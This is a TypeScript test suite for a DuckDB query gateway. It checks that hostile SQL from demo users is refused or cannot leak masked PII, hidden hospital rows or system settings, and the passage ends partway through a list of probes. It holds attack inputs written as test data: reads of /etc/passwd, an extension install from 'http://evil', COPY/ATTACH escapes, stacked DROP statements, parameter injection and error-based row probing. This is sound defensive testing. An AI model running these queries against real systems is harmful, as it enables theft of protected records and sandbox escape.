/**
 * Hostile queries against the gateway, through the library and through the
 * HTTP API. Each case states the attack it stops; each asserts a refusal, or
 * that no protected value appears in the answer (rows, column names, error
 * message), and never a 500.
 *
 * Demo world: alice (analysts) reads patient_claims without ssn and
 * patient_name; north_admin reads only North Hospital rows, without ssn and
 * patient_name; bob reads finance only; dana may DESCRIBE but not read; erin
 * sees nothing. Protected values: every ssn and patient_name; for north_admin,
 * also other hospitals' names and claim ids.
 */
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { cells, startFixture, viaHttp, viaLibrary, type DemoUser, type Fixture, type Outcome } from './fixture.js';

type Expect =
  /** Must be refused (4xx), and the error must not leak. */
  | 'refuse'
  /** May run or be refused, but must not leak. */
  | 'safe'
  /** Must run, and must not leak. */
  | 'runs';

interface Case {
  readonly attack: string;
  readonly threat: string;
  readonly user: DemoUser;
  readonly sql: string;
  readonly expect: Expect;
  /** When it runs: the expected value of the first cell. */
  readonly value?: string | number | boolean | null;
  readonly params?: Record<string, string | number | boolean | null>;
}

const T = 'claims.patient_claims';
const C: Case[] = [];
const add = (group: string, threat: string, user: DemoUser, expect: Expect, list: readonly (string | [string, string])[], extra: Partial<Case> = {}): void => {
  for (const item of list) {
    const [attack, sql] = typeof item === 'string' ? [item, item] : item;
    C.push({ attack: `${group}: ${attack}`, threat, user, sql, expect, ...extra });
  }
};

// ------------------------------------------------------------ hidden columns
add('hidden column', 'alice reads a column the PII guardrail removes', 'alice', 'refuse', [
  `SELECT ssn FROM ${T}`,
  `SELECT patient_name FROM ${T}`,
  `SELECT "ssn" FROM ${T}`,
  `SELECT SSN FROM ${T}`,
  `SELECT "SSN" FROM ${T}`,
  `SELECT Patient_Name FROM ${T}`,
  `SELECT patient_claims.ssn FROM ${T}`,
  `SELECT claims.patient_claims.ssn FROM ${T}`,
  `SELECT lake.claims.patient_claims.ssn FROM lake.${T}`,
  `SELECT t.ssn FROM ${T} t`,
  `SELECT t.ssn FROM ${T} AS t`,
  `SELECT ssn /* comment */ FROM ${T}`,
  `SELECT -- hide\n ssn FROM ${T}`,
  `SELECT claim_id FROM ${T} WHERE ssn = '123-45-6789'`,
  `SELECT claim_id FROM ${T} WHERE ssn LIKE '1%'`,
  `SELECT claim_id FROM ${T} ORDER BY ssn LIMIT 1`,
  `SELECT count(*) FROM ${T} GROUP BY patient_name`,
  `SELECT region FROM ${T} GROUP BY region HAVING max(ssn) > ''`,
  `SELECT claim_id FROM ${T} QUALIFY row_number() OVER (ORDER BY ssn) = 1`,
  `SELECT max(length(ssn)) FROM ${T}`,
  `SELECT string_agg(patient_name, ',') FROM ${T}`,
  `SELECT * FROM ${T} a JOIN ${T} b ON a.ssn = b.ssn LIMIT 1`,
  `SELECT * FROM ${T} a JOIN ${T} b USING (ssn) LIMIT 1`,
  `SELECT (SELECT max(ssn) FROM ${T})`,
  `SELECT claim_id FROM ${T} WHERE EXISTS (SELECT 1 FROM ${T} x WHERE x.ssn = '1')`,
  `WITH c AS (SELECT ssn FROM ${T}) SELECT * FROM c`,
  `WITH c AS (SELECT * FROM ${T}) SELECT ssn FROM c`,
  `SELECT * FROM (SELECT ssn FROM ${T}) s`,
  `SELECT * FROM ${T} t, LATERAL (SELECT t.ssn) l LIMIT 1`,
  `SELECT claim_id FROM ${T} UNION ALL SELECT ssn FROM ${T}`,
  `SELECT region FROM ${T} EXCEPT SELECT patient_name FROM ${T}`,
  `SELECT * EXCLUDE (ssn) FROM ${T} LIMIT 1`,
  `SELECT * REPLACE (ssn AS claim_id) FROM ${T} LIMIT 1`,
  `SELECT struct_pack(s := ssn) FROM ${T} LIMIT 1`,
  `SELECT [ssn] FROM ${T} LIMIT 1`,
  `SELECT CASE WHEN ssn = '1' THEN 1 END FROM ${T}`,
  `SELECT CAST(ssn AS INTEGER) FROM ${T}`,
  `SELECT list_transform([1], x -> ssn) FROM ${T} LIMIT 1`,
  `SELECT claim_id FROM ${T} WHERE CASE WHEN ssn = 'x' THEN 1/0 END IS NULL`,
  `SELECT claim_id FROM ${T} WHERE CASE WHEN ssn = 'x' THEN error('boom') END IS NULL`,
  `FROM ${T} SELECT ssn`,
  `SELECT ssn FROM ${T} WINDOW w AS (ORDER BY claim_id)`,
]);
add('star expansion', 'alice gets hidden columns through * or COLUMNS()', 'alice', 'runs', [
  `SELECT * FROM ${T} LIMIT 5`,
  `SELECT t.* FROM ${T} t LIMIT 5`,
  `SELECT COLUMNS('.*') FROM ${T} LIMIT 5`,
  `SELECT COLUMNS('ssn|patient_name|claim_id') FROM ${T} LIMIT 5`,
  `SELECT * FROM ${T} NATURAL JOIN ${T} x LIMIT 5`,
  `SELECT * FROM ${T} a POSITIONAL JOIN ${T} b LIMIT 5`,
  `SELECT to_json(t) FROM ${T} t LIMIT 5`,
  `SELECT t FROM ${T} t LIMIT 5`,
  `SELECT * FROM ${T} UNION ALL BY NAME SELECT * FROM ${T} LIMIT 5`,
  `SELECT * FROM ${T} AS t(a, b, c, d, e, f, g, h) LIMIT 5`,
]);
add('star in functions', 'alice packs a whole row (hidden columns included) into one value', 'alice', 'safe', [
  `SELECT struct_pack(t.*) FROM ${T} t LIMIT 5`,
  `SELECT row(t.*) FROM ${T} t LIMIT 5`,
  `SELECT list_value(COLUMNS(*)) FROM ${T} LIMIT 5`,
]);

// ------------------------------------------------------------ tables
add('no grant', 'a principal without SELECT on a table reads it', 'bob', 'refuse', [
  `SELECT * FROM ${T}`,
  `SELECT count(*) FROM ${T}`,
  `SELECT * FROM lake.${T}`,
  `SELECT * FROM "claims"."patient_claims"`,
  `SELECT * FROM CLAIMS.PATIENT_CLAIMS`,
  `SELECT * FROM finance.revenue, ${T} LIMIT 1`,
  `SELECT * FROM finance.revenue WHERE EXISTS (SELECT 1 FROM ${T})`,
  `SELECT 1 UNION SELECT count(*) FROM ${T}`,
  `WITH x AS (SELECT * FROM ${T}) SELECT 1`,
]);
add('no grant', 'erin (no groups) reads anything', 'erin', 'refuse', [`SELECT * FROM ${T}`, 'SELECT * FROM finance.revenue', `SELECT 1 FROM ${T} LIMIT 0`]);
add('describe only', 'dana (DESCRIBE only) reads data', 'dana', 'refuse', [`SELECT * FROM ${T}`, 'SELECT count(*) FROM finance.revenue']);
add('unknown table', 'a query probes for tables that do not exist or are hidden', 'alice', 'refuse', [
  'SELECT * FROM claims.nope',
  'SELECT * FROM nope',
  'SELECT * FROM patient_claims',
  'SELECT * FROM other.claims.patient_claims',
  'SELECT * FROM lake.finance.revenue',
  'SELECT * FROM "claims.patient_claims"',
  'SELECT * FROM claims.patient_claimѕ',
  'SELECT * FROM claims.patient\u200Bclaims',
  'SELECT * FROM claims.ＰATIENT_CLAIMS',
]);
add('cte shadowing', 'a CTE or alias named like a table reaches the real table or leaks hidden columns', 'alice', 'safe', [
  'WITH patient_claims AS (SELECT 1 AS ssn) SELECT * FROM patient_claims',
  `WITH revenue AS (SELECT * FROM ${T}) SELECT * FROM revenue LIMIT 3`,
  `WITH claims AS (SELECT 1 AS x) SELECT * FROM ${T} LIMIT 3`,
  `WITH x AS (SELECT 'a' AS ssn) SELECT x.ssn, t.claim_id FROM x, ${T} t LIMIT 3`,
  `SELECT * FROM ${T} AS revenue LIMIT 3`,
  `SELECT * FROM (SELECT 1 AS ssn) AS patient_claims`,
  `WITH a AS (WITH b AS (SELECT * FROM ${T}) SELECT * FROM b) SELECT * FROM a LIMIT 3`,
  'WITH a AS (SELECT * FROM b), b AS (SELECT 1 AS x) SELECT * FROM a',
  `SELECT (WITH q AS (SELECT claim_id FROM ${T}) SELECT max(claim_id) FROM q)`,
  `WITH "Patient_Claims" AS (SELECT 2 AS y) SELECT * FROM patient_claims`,
]);
add('cte shadowing', 'bob hides the claims table behind a CTE name', 'bob', 'refuse', [
  `WITH revenue AS (SELECT * FROM ${T}) SELECT * FROM revenue`,
  `WITH r AS (SELECT * FROM finance.revenue) SELECT * FROM r, ${T}`,
]);
add('recursive cte', 'a recursive CTE escapes to a table or a hidden column', 'alice', 'safe', [
  'WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 10) SELECT sum(n) FROM r',
  `WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < (SELECT count(*) FROM ${T} WHERE claim_id < 1000005)) SELECT max(n) FROM r`,
  'WITH RECURSIVE patient_claims(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM patient_claims WHERE n < 3) SELECT * FROM patient_claims',
  `WITH RECURSIVE r(s) AS (SELECT ssn FROM ${T} UNION ALL SELECT s FROM r) SELECT * FROM r LIMIT 1`,
  `WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r, ${T} t WHERE n < 2 AND t.ssn IS NOT NULL) SELECT * FROM r`,
  'WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM claims.r WHERE n < 3) SELECT * FROM r',
]);

// ------------------------------------------------------------ row filter probes
// The row-filter probes (north_admin) are compared with the answers over the admitted rows: see "row filter probes" below.
add('row filter probe', 'north_admin reads a hidden column or another table while probing rows', 'north_admin', 'refuse', [`SELECT hospital, ssn FROM ${T}`]);
add('row filter probe', 'north_admin reads finance data through the claims filter', 'north_admin', 'safe', [`SELECT * FROM finance.revenue`]);
add('correlated probe', 'alice probes hidden columns through correlated subqueries', 'alice', 'refuse', [
  `SELECT claim_id FROM ${T} t WHERE (SELECT count(*) FROM ${T} x WHERE x.ssn = t.claim_id::VARCHAR) > 0`,
  `SELECT claim_id FROM ${T} t WHERE t.claim_id IN (SELECT claim_id FROM ${T} WHERE patient_name LIKE 'A%')`,
  `SELECT claim_id FROM ${T} t WHERE 'x' > ALL (SELECT ssn FROM ${T})`,
]);

// ------------------------------------------------------------ table functions and files
add('table function', 'the query reads files or metadata directly instead of catalog tables', 'alice', 'refuse', [
  "SELECT * FROM read_csv('/etc/passwd')",
  "SELECT * FROM read_csv_auto('/etc/passwd')",
  "SELECT * FROM read_text('/etc/hostname')",
  "SELECT * FROM read_blob('/etc/hostname')",
  "SELECT * FROM read_json('/etc/passwd')",
  "SELECT * FROM read_json_auto('/etc/passwd')",
  "SELECT * FROM read_ndjson('/x')",
  "SELECT * FROM read_parquet('/tmp/x.parquet')",
  "SELECT * FROM parquet_scan('/tmp/x.parquet')",
  "SELECT * FROM parquet_metadata('/tmp/x.parquet')",
  "SELECT * FROM parquet_schema('/tmp/x.parquet')",
  "SELECT * FROM parquet_kv_metadata('/tmp/x.parquet')",
  "SELECT * FROM sniff_csv('/etc/passwd')",
  "SELECT * FROM glob('/*')",
  "SELECT * FROM query_table('claims.patient_claims')",
  "SELECT * FROM query('SELECT 1')",
  "SELECT * FROM range(10)",
  "SELECT * FROM generate_series(1, 3)",
  "SELECT * FROM '/etc/passwd'",
  "SELECT * FROM 'data.csv'",
  "SELECT * FROM 'https://example.com/x.parquet'",
  "SELECT * FROM iceberg_scan('/x')",
  "SELECT * FROM delta_scan('/x')",
  "SELECT * FROM sql_auto_complete('SEL')",
  "SELECT * FROM json_execute_serialized_sql('{}')",
  "SELECT * FROM unnest([1, 2])",
  "SELECT * FROM test_all_types()",
  "SELECT * FROM duckdb_settings()",
  "SELECT * FROM duckdb_tables()",
  "SELECT * FROM duckdb_columns()",
  "SELECT * FROM duckdb_databases()",
  "SELECT * FROM duckdb_extensions()",
  "SELECT * FROM duckdb_functions()",
  "SELECT * FROM duckdb_secrets()",
  "SELECT * FROM which_secret('s3://x', 's3')",
  "SELECT * FROM pragma_version()",
  "SELECT * FROM pragma_database_list()",
  "SELECT * FROM pragma_table_info('x')",
  "SELECT * FROM pragma_storage_info('x')",
  `SELECT * FROM ${T} t, read_csv('/etc/passwd') f LIMIT 1`,
  `SELECT (SELECT count(*) FROM read_text('/etc/hostname'))`,
  `WITH x AS (SELECT * FROM read_csv('/etc/passwd')) SELECT * FROM x`,
]);
add('system catalog', 'system catalogs reveal tables the principal cannot DESCRIBE', 'alice', 'refuse', [
  'SELECT * FROM information_schema.tables',
  'SELECT * FROM information_schema.columns',
  'SELECT * FROM information_schema.schemata',
  'SELECT * FROM pg_catalog.pg_class',
  'SELECT * FROM pg_catalog.pg_settings',
  'SELECT * FROM duckdb_tables',
  'SELECT * FROM duckdb_settings',
  'SELECT * FROM sqlite_master',
  'SELECT * FROM system.main.duckdb_tables',
  'SELECT * FROM temp.main.x',
  'SELECT * FROM lake.information_schema.tables',
  'SELECT * FROM memory.main.t',
]);
add('environment function', 'a function reveals settings, the environment, the rewritten SQL or file statistics', 'alice', 'refuse', [
  "SELECT current_setting('allowed_paths')",
  "SELECT current_setting('memory_limit')",
  "SELECT getenv('HOME')",
  "SELECT getvariable('x')",
  'SELECT version()',
  'SELECT current_query()',
  'SELECT current_database()',
  'SELECT current_schema()',
  'SELECT current_schemas(true)',
  'SELECT current_user',
  'SELECT user',
  'SELECT txid_current()',
  "SELECT nextval('s')",
  'SELECT sleep_ms(10000)',
  "SELECT pg_sleep(10)",
  "SELECT json_serialize_sql('SELECT 1')",
  "SELECT json_deserialize_sql('{}')",
  "SELECT json_serialize_plan('SELECT 1')",
  "SELECT write_log('x')",
  `SELECT stats(amount) FROM ${T}`,
  `SELECT stats(hospital) FROM ${T}`,
  "SELECT has_table_privilege('x', 'select')",
  "SELECT pg_get_viewdef('x')",
  "SELECT system.main.current_setting('threads')",
  "SELECT main.current_setting('threads')",
  "SELECT pg_catalog.current_setting('threads')",
  `SELECT finalize(sum(amount) EXPORT_STATE) FROM ${T}`,
  'SELECT in_search_path(\'main\', \'x\')',
]);

// ------------------------------------------------------------ statements
add('statement', 'a non-SELECT statement changes state, reads files or escapes the sandbox', 'alice', 'refuse', [
  "PRAGMA table_info('x')",
  'PRAGMA version',
  'PRAGMA enable_profiling',
  'SET enable_external_access = true',
  "SET allowed_paths = ['/']",
  'SET lock_configuration = false',
  'SET threads = 64',
  "SET memory_limit = '100GB'",
  'SET VARIABLE x = 1',
  'RESET enable_external_access',
  'RESET ALL',
  "COPY (SELECT 1) TO '/tmp/steward-hostile.csv'",
  "COPY claims.patient_claims TO '/tmp/steward-hostile.parquet'",
  "COPY x FROM '/etc/passwd'",
  "ATTACH '/tmp/steward-hostile.db' AS h",
  "ATTACH ':memory:' AS m",
  'DETACH lake',
  'INSTALL httpfs',
  'LOAD httpfs',
  "INSTALL x FROM 'http://evil'",
  "EXPORT DATABASE '/tmp/steward-export'",
  "IMPORT DATABASE '/tmp/steward-export'",
  'CALL pragma_version()',
  "CALL duckdb_settings()",
  'CREATE TABLE x AS SELECT 1',
  `CREATE VIEW v AS SELECT * FROM ${T}`,
  'CREATE MACRO m(x) AS x + 1',
  "CREATE MACRO t() AS TABLE SELECT * FROM read_csv('/etc/passwd')",
  "CREATE SECRET s (TYPE s3, KEY_ID 'x', SECRET 'y')",
  'CREATE SEQUENCE s',
  "CREATE TYPE mood AS ENUM ('a')",
  'CREATE SCHEMA s',
  'INSERT INTO x VALUES (1)',
  `UPDATE ${T} SET ssn = 'x'`,
  `DELETE FROM ${T}`,
  `DROP TABLE ${T}`,
  `ALTER TABLE ${T} ADD COLUMN x INT`,
  `TRUNCATE ${T}`,
  'PREPARE p AS SELECT 1',
  'EXECUTE p',
  'DEALLOCATE p',
  'BEGIN TRANSACTION',
  'COMMIT',
  'CHECKPOINT',
  'VACUUM',
  'ANALYZE',
  `EXPLAIN SELECT * FROM ${T}`,
  `EXPLAIN ANALYZE SELECT * FROM ${T}`,
  `DESCRIBE ${T}`,
  `DESCRIBE SELECT * FROM ${T}`,
  `SUMMARIZE ${T}`,
  `SUMMARIZE SELECT * FROM ${T}`,
  'SHOW TABLES',
  'SHOW ALL TABLES',
  'SHOW databases',
  'USE claims',
  `PIVOT ${T} ON hospital USING count(*)`,
  `SELECT * FROM ${T} PIVOT (count(*) FOR hospital IN ('North Hospital'))`,
  `UNPIVOT ${T} ON region INTO NAME k VALUE v`,
  'UPDATE EXTENSIONS',
  'LOAD icu',
  'FORCE INSTALL httpfs',
  "SET search_path = 'system.main'",
]);
add('multiple statements', 'a second statement rides along with a harmless one', 'alice', 'refuse', [
  'SELECT 1; SELECT 2',
  `SELECT 1; DROP TABLE ${T}`,
  "SELECT 1; COPY (SELECT 1) TO '/tmp/x.csv'",
  'SELECT 1;SET enable_external_access=true;',
  `SELECT claim_id FROM ${T} LIMIT 1; SELECT ssn FROM ${T}`,
  "SELECT 1; ATTACH '/tmp/x.db'",
]);

// ------------------------------------------------------------ quoting, comments, unicode
add('trick', 'case, quoting, comments, unicode or odd bytes smuggle something past the checks', 'alice', 'safe', [
  `SELECT "claim_id" FROM "claims"."patient_claims" LIMIT 2`,
  `select claim_id from CLAIMS.Patient_Claims limit 2`,
  `SELECT claim_id FROM claims . patient_claims LIMIT 2`,
  `SELECT claim_id FROM ${T} /* ; DROP TABLE x */ LIMIT 2`,
  `SELECT claim_id FROM ${T} -- ; SELECT ssn\n LIMIT 2`,
  `SELECT 'ssn' AS ssn, claim_id FROM ${T} LIMIT 2`,
  `SELECT '; DROP TABLE x; --' AS x, claim_id FROM ${T} LIMIT 2`,
  `SELECT $$ssn$$ AS x FROM ${T} LIMIT 1`,
  `SELECT claim_id AS "ssn" FROM ${T} LIMIT 2`,
  `SELECT claim_id AS "patient_claims.ssn" FROM ${T} LIMIT 2`,
  `SELECT "s""sn" FROM ${T}`,
  `SELECT "ssn " FROM ${T}`,
  `SELECT ssn\u0301 FROM ${T}`,
  `SELECT "ｓｓｎ" FROM ${T}`,
  `SELECT claim_id FROM ${T} WHERE region = 'East\u0000' LIMIT 2`,
  `SELECT claim_id FROM ${T} WHERE region = E'East\\'' LIMIT 2`,
  `SELECT ${'('.repeat(300)}1${')'.repeat(300)}`,
  `SELECT claim_id FROM ${T} WHERE ${Array.from({ length: 300 }, (_, i) => `claim_id <> ${i}`).join(' AND ')} LIMIT 1`,
  `SELECT 1 FROM ${T} ${'x'.repeat(100_001)}`,
  `SELECT #1 FROM ${T} LIMIT 1`,
  `SELECT * FROM ${T} WHERE claim_id = #8 LIMIT 1`,
  `SELECT claim_id COLLATE nocase FROM ${T} LIMIT 1`,
]);

// ------------------------------------------------------------ parameters
add('parameter', 'a parameter value is spliced into the SQL', 'alice', 'safe', [`SELECT count(*) FROM ${T} WHERE region = \${region}`], {
  params: { region: "East' OR ssn IS NOT NULL --" },
});
add('parameter', 'an unknown parameter is silently ignored', 'alice', 'refuse', [`SELECT count(*) FROM ${T}`], { params: { extra: 1 } });
add('parameter', 'a missing parameter runs with a default', 'alice', 'refuse', [`SELECT count(*) FROM ${T} WHERE region = $region`]);
add('parameter', 'a parameter names a hidden column', 'alice', 'refuse', [`SELECT count(*) FROM ${T} WHERE ssn = $v`], { params: { v: 'x' } });

// ------------------------------------------------------------ checks

function leaks(f: Fixture, c: Case, o: Outcome): string | null {
  const pieces: string[] = [];
  for (const v of cells(o)) {
    if (typeof v !== 'string') continue;
    pieces.push(v, ...v.split(/['"`]/));
  }
  for (const p of pieces) {
    if (f.pii.has(p)) return `protected value \`${p}\``;
    if (c.user === 'north_admin' && f.otherHospitals.has(p)) return `other hospital \`${p}\``;
  }
  if (c.user === 'north_admin') {
    for (const r of o.rows) {
      for (const [k, v] of Object.entries(r)) {
        if (k === 'claim_id' && typeof v === 'number' && f.hiddenClaimIds.has(v)) return `hidden claim id ${v}`;
      }
    }
  }
  const cols = o.columns.map((x) => x.toLowerCase());
  if (c.user !== 'carol' && o.ok && (cols.includes('ssn') || cols.includes('patient_name'))) {
    // A column may be *named* ssn only if it holds no protected value (checked above).
  }
  return null;
}

function check(f: Fixture, c: Case, o: Outcome, via: string): void {
  assert.ok(o.status < 500, `${via}: server error ${o.status} ${o.code} ${o.message}`);
  const leak = leaks(f, c, o);
  assert.equal(leak, null, `${via}: ${leak}`);
  if (c.expect === 'refuse') assert.equal(o.ok, false, `${via}: expected a refusal, got ${o.rows.length} row(s)`);
  if (c.expect === 'runs') assert.equal(o.ok, true, `${via}: expected rows, got ${o.code}: ${o.message}`);
  if (!o.ok) assert.ok(o.message !== undefined && o.message.length > 0, `${via}: refusal without a message`);
  if (!o.ok) assert.ok(!(o.message ?? '').includes('__steward') && !(o.message ?? '').includes(f.claimsFile), `${via}: error reveals the rewrite: ${o.message}`);
}

let f: Fixture;
before(async () => {
  f = await startFixture();
});
after(async () => {
  await f?.close();
});

describe('hostile queries', () => {
  it(`has at least 150 cases (${C.length})`, () => {
    assert.ok(C.length >= 150);
  });
  for (const c of C) {
    it(`stops ${c.attack} [${c.user}] — ${c.threat}: ${JSON.stringify(c.sql.slice(0, 80))}`, async () => {
      check(f, c, await viaLibrary(f, c.user, c.sql, c.params), 'library');
      check(f, c, await viaHttp(f, c.user, c.sql, c.params), 'http');
    });
  }
});

describe('hostile queries: specific answers', () => {
  it('stops error-based row probing: the probe sees only North Hospital rows (threat: an error reveals a hidden row)', async () => {
    for (const via of [viaLibrary, viaHttp]) {
      const o = await via(f, 'north_admin', `SELECT count(*) AS n FROM ${T} WHERE CASE WHEN hospital <> 'North Hospital' THEN error('leak') END IS NULL`);
      assert.equal(o.ok, true, o.message);
      assert.equal(o.rows[0]?.['n'], f.northRows);
    }
  });
  it('stops division-by-zero probing of hidden rows (threat: 1/0 fails only when a hidden row exists)', async () => {
    const o = await viaLibrary(f, 'north_admin', `SELECT count(*) AS n FROM ${T} WHERE CAST(CASE WHEN hospital = 'South Hospital' THEN 'boom' ELSE '1' END AS INTEGER) = 1`);
    assert.equal(o.ok, true, o.message);
    assert.equal(o.rows[0]?.['n'], f.northRows);
  });
  it('stops counting hidden rows with FILTER (threat: aggregates see rows the filter removes)', async () => {
    const o = await viaLibrary(f, 'north_admin', `SELECT count(*) FILTER (WHERE hospital <> 'North Hospital') AS n, count(*) AS m FROM ${T}`);
    assert.equal(o.rows[0]?.['n'], 0);
    assert.equal(o.rows[0]?.['m'], f.northRows);
  });
  it('fast path: a leakproof filter aimed at hidden rows finds none (threat: unmasked columns let the filter reach other hospitals)', async () => {
    const ids = [...f.hiddenClaimIds].slice(0, 50);
    const probes = [
      `SELECT count(*) AS n FROM ${T} WHERE hospital <> 'North Hospital'`,
      `SELECT count(*) AS n FROM ${T} WHERE claim_id IN (${ids.join(', ')})`,
      `SELECT count(*) AS n FROM ${T} WHERE hospital = 'South Hospital' OR hospital IS NULL`,
    ];
    for (const sql of probes) {
      const p = await f.gateway.plan('user:north_admin', sql);
      assert.equal(p.leakproof, true, sql);
      for (const via of [viaLibrary, viaHttp]) {
        const o = await via(f, 'north_admin', sql);
        assert.equal(o.ok, true, o.message);
        assert.equal(o.rows[0]?.['n'], 0, sql);
      }
    }
    const all = await viaLibrary(f, 'north_admin', `SELECT count(*) AS n FROM ${T} WHERE claim_id >= 0`);
    assert.equal(all.rows[0]?.['n'], f.northRows);
  });
  it('fast path: error and cast probes keep every mask (threat: the fast path taken for an expression that can fail)', async () => {
    for (const sql of [
      `SELECT count(*) FROM ${T} WHERE CASE WHEN hospital <> 'North Hospital' THEN error('leak') END IS NULL`,
      `SELECT count(*) FROM ${T} WHERE CAST(CASE WHEN hospital = 'South Hospital' THEN 'boom' ELSE '1' END AS INTEGER) = 1`,
      `SELECT count(*) FROM ${T} WHERE claim_id = 'abc'`,
      `SELECT count(*) FROM ${T} WHERE hospital = 1`,
    ]) {
      const p = await f.gateway.plan('user:north_admin', sql);
      assert.equal(p.leakproof, false, sql);
    }
  });
  it('explains a hidden column refusal with the column and the grant that would allow it', async () => {
    const o = await viaHttp(f, 'alice', `SELECT ssn FROM ${T}`);
    assert.equal(o.status, 403);
    assert.match(o.message ?? '', /column `ssn` of `lake\.claims\.patient_claims`/);
    assert.match(o.message ?? "", /guardrail `pii-requires-privacy-officer`|columns grant/);
  });
  it('answers not-found for a table the principal cannot DESCRIBE, exactly as for a missing table', async () => {
    const hidden = await viaHttp(f, 'bob', `SELECT * FROM ${T}`);
    const missing = await viaHttp(f, 'bob', 'SELECT * FROM claims.no_such_table');
    assert.equal(hidden.status, 404);
    assert.equal(missing.status, 404);
    assert.equal(hidden.message?.replace('patient_claims', 'X'), missing.message?.replace('no_such_table', 'X'));
  });
  it('refuses SELECT for a principal that may DESCRIBE, naming the privilege and the grants that would allow it', async () => {
    const o = await viaHttp(f, 'dana', `SELECT * FROM ${T}`);
    assert.equal(o.status, 403);
    assert.match(o.message ?? '', /lacks SELECT on table `lake\.claims\.patient_claims`/);
    assert.match(o.message ?? '', /data-filter grant/);
  });
  it('returns DuckDB syntax errors with their position', async () => {
    const o = await viaHttp(f, 'alice', 'SELECT FROM WHERE');
    assert.equal(o.code, 'STEWARD_E_PARSE');
    assert.match(o.message ?? '', /position \d+/);
  });
  it('leaves no file behind after COPY/EXPORT attempts', async () => {
    const fs = await import('node:fs');
    assert.equal(fs.existsSync('/tmp/steward-hostile.csv'), false);
    assert.equal(fs.existsSync('/tmp/steward-hostile.parquet'), false);
    assert.equal(fs.existsSync('/tmp/steward-export'), false);
    assert.equal(fs.existsSync('/tmp/steward-hostile.db'), false);
  });
});

// ------------------------------------------------------------ row filter probes, against the admitted rows

/**
 * A probe of north_admin's row filter: a query whose governed answer must be
 * exactly the answer of the same query over the rows the filter is meant to
 * admit (North Hospital's), computed by DuckDB directly over the Parquet file.
 * A count, a min/max of ids or a window count that saw one hidden row differs.
 * `sql` gets the table to read: the catalog name for the gateway, the admitted
 * rows for the reference.
 */
interface Probe {
  readonly name: string;
  readonly sql: (table: string, f: Fixture) => string;
  /** `sample`: the rows are random, so each must be an admitted row (instead of the whole answer being equal). */
  readonly kind?: 'sample';
  /** Whether this probe must notice a filter that admits every hospital (`hospital IS NOT NULL`). */
  readonly detectsOpenFilter: boolean;
}

const ADMITTED = "hospital = 'North Hospital'";
const PROBES: readonly Probe[] = [
  { name: 'count(*)', sql: (t) => `SELECT count(*) FROM ${t}`, detectsOpenFilter: true },
  { name: 'count(*) of other hospitals (fast path)', sql: (t) => `SELECT count(*) FROM ${t} WHERE hospital <> 'North Hospital'`, detectsOpenFilter: true },
  { name: 'count(*) of hidden claim ids', sql: (t, f) => `SELECT count(*) FROM ${t} WHERE claim_id IN (${[...f.hiddenClaimIds].slice(0, 50).join(', ')})`, detectsOpenFilter: true },
  { name: 'count(*) with a NULL-or-other filter', sql: (t) => `SELECT count(*) FROM ${t} WHERE hospital = 'South Hospital' OR hospital IS NULL`, detectsOpenFilter: true },
  { name: 'min and max of claim ids', sql: (t) => `SELECT min(claim_id), max(claim_id) FROM ${t}`, detectsOpenFilter: true },
  { name: 'id gaps (max - min + 1 - count)', sql: (t) => `SELECT max(claim_id) - min(claim_id) + 1 - count(*) FROM ${t}`, detectsOpenFilter: true },
  { name: 'median claim id', sql: (t) => `SELECT median(claim_id) FROM ${t}`, detectsOpenFilter: true },
  { name: 'sum and count of amounts', sql: (t) => `SELECT sum(amount), count(amount), count(DISTINCT region) FROM ${t}`, detectsOpenFilter: true },
  { name: 'window count', sql: (t) => `SELECT claim_id, count(*) OVER () FROM ${t} ORDER BY claim_id LIMIT 5`, detectsOpenFilter: true },
  { name: 'row_number over all rows', sql: (t) => `SELECT row_number() OVER (ORDER BY claim_id) AS rn, claim_id FROM ${t} ORDER BY claim_id DESC LIMIT 3`, detectsOpenFilter: true },
  { name: 'lag over neighbouring ids', sql: (t) => `SELECT lag(claim_id) OVER (ORDER BY claim_id), claim_id FROM ${t} ORDER BY claim_id LIMIT 20`, detectsOpenFilter: true },
  { name: 'count per hospital', sql: (t) => `SELECT hospital, count(*) FROM ${t} GROUP BY hospital`, detectsOpenFilter: true },
  { name: 'count per region with ROLLUP', sql: (t) => `SELECT region, count(*) FROM ${t} GROUP BY ROLLUP (region)`, detectsOpenFilter: true },
  { name: 'DISTINCT hospital', sql: (t) => `SELECT DISTINCT hospital FROM ${t}`, detectsOpenFilter: true },
  { name: 'count(*) FILTER', sql: (t) => `SELECT count(*) FILTER (WHERE hospital <> 'North Hospital'), count(*) FROM ${t}`, detectsOpenFilter: true },
  { name: 'sum of a CASE', sql: (t) => `SELECT sum(CASE WHEN hospital <> 'North Hospital' THEN 1 ELSE 0 END) FROM ${t}`, detectsOpenFilter: true },
  { name: 'error() aimed at other hospitals', sql: (t) => `SELECT count(*) FROM ${t} WHERE CASE WHEN hospital <> 'North Hospital' THEN error('leak') END IS NULL`, detectsOpenFilter: true },
  { name: 'division by zero aimed at other hospitals', sql: (t) => `SELECT count(*) FROM ${t} WHERE CASE WHEN hospital = 'South Hospital' THEN 1 // 0 END IS NULL`, detectsOpenFilter: true },
  { name: 'failing cast aimed at other hospitals', sql: (t) => `SELECT count(*) FROM ${t} WHERE CAST(CASE WHEN hospital = 'South Hospital' THEN 'x' ELSE '1' END AS INTEGER) = 1`, detectsOpenFilter: true },
  { name: 'error() aimed at one region of other hospitals', sql: (t) => `SELECT count(*) FROM ${t} WHERE CASE WHEN region = 'East' AND hospital <> 'North Hospital' THEN error('east') END IS NULL`, detectsOpenFilter: true },
  { name: 'error() aimed at the first id', sql: (t) => `SELECT count(*) FROM ${t} WHERE CASE WHEN claim_id = 1000000 THEN error('row0') END IS NULL`, detectsOpenFilter: true },
  { name: 'correlated count of other hospitals', sql: (t) => `SELECT t.claim_id, (SELECT count(*) FROM ${t} x WHERE x.hospital <> t.hospital AND x.claim_id < 1001000) FROM ${t} t ORDER BY t.claim_id LIMIT 5`, detectsOpenFilter: true },
  { name: 'NOT EXISTS over neighbouring ids', sql: (t) => `SELECT claim_id FROM ${t} t WHERE claim_id < 1000300 AND NOT EXISTS (SELECT 1 FROM ${t} x WHERE x.claim_id = t.claim_id + 1 AND x.claim_id < 1000300)`, detectsOpenFilter: true },
